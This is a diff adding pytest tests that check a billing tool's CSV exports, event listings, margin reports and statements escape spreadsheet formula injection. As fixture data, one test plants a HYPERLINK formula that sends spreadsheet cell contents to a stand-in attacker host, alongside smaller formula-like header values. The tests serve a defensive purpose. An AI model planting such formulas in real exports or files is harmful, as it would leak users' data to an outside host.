@@ -1054,3 +1054,49 @@ def test_a_month_that_has_not_begun_is_refused(billing: BillingSimulator, make_w
     assert billing.stripe_invoice_items == [], "a base fee was billed for a month that has not begun"
     assert result.returncode != 0 and "--period" in result.stderr
     assert world.lines("stripe") == []
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?"
+
+
+def check_no_formula_cells(text: str, where: str) -> list[str]:
+    """Every cell of a CSV text that starts like a formula is a plain number; returns all the cells."""
+    import re
+
+    cells = [cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row]
+    for cell in cells:
+        if cell.startswith(FORMULA_STARTS):
+            assert re.fullmatch(PLAIN_NUMBER, cell), f"{where}: a formula cell reached the file: {cell!r}"
+    return cells
+
+
+@pytest.mark.parametrize("kind", ["csv", "focus"])
+def test_formula_cells_are_neutralised_in_exports_reports_and_events(make_world, tmp_path: Path, kind: str) -> None:
+    """Customer-controlled text (an external customer id, dimension headers) that a spreadsheet would run as a formula
+    reaches every CSV Tollgate writes with a ' in front; negative and plain numbers stay numbers (OWASP CSV injection)."""
+    template = tmp_path / "out" / "lines-{period}.csv"
+    world = make_world(sink_yaml("file", kind, path=str(template)))
+    hostile_id = '=HYPERLINK("http://evil.example/?leak="&A1,"invoice")'
+    world.set_external(CUSTOMERS[0], kind, hostile_id)
+    mark = {event["id"] for event in world.events}
+    world.proxy.client(world.keys[CUSTOMERS[1]]).chat.completions.create(
+        model=MODELS[0], messages=MESSAGES,
+        extra_headers={"x-tollgate-feature": "=1+2", "x-tollgate-project": "@SUM(A1:A9)", "x-tollgate-end-user": "-2+3"})
+    world.proxy.new_events(mark, count=1)
+
+    assert world.export("file").returncode == 0
+    text = Path(str(template).replace("{period}", world.period)).read_text()
+    cells = check_no_formula_cells(text, f"{kind} export")
+    assert "'" + hostile_id in cells, "the hostile external id is kept, as text"
+    assert len(read_rows(Path(str(template).replace("{period}", world.period)), kind)) == len(world.lines("file"))
+
+    events = world.cli("events", "--format", "csv").stdout
+    cells = check_no_formula_cells(events, "tollgate events --format csv")
+    assert {"'=1+2", "'@SUM(A1:A9)", "'-2+3"} <= set(cells), "dimension headers kept as text"
+
+    report = world.cli("report", "margin", "--by", "feature", "--format", "csv").stdout
+    assert "'=1+2" in check_no_formula_cells(report, "tollgate report margin --format csv")
+
+    statement = world.cli("statement", "--customer", CUSTOMERS[1], "--period", world.period, "--format", "events-csv").stdout
+    check_no_formula_cells(statement, "tollgate statement --format events-csv")
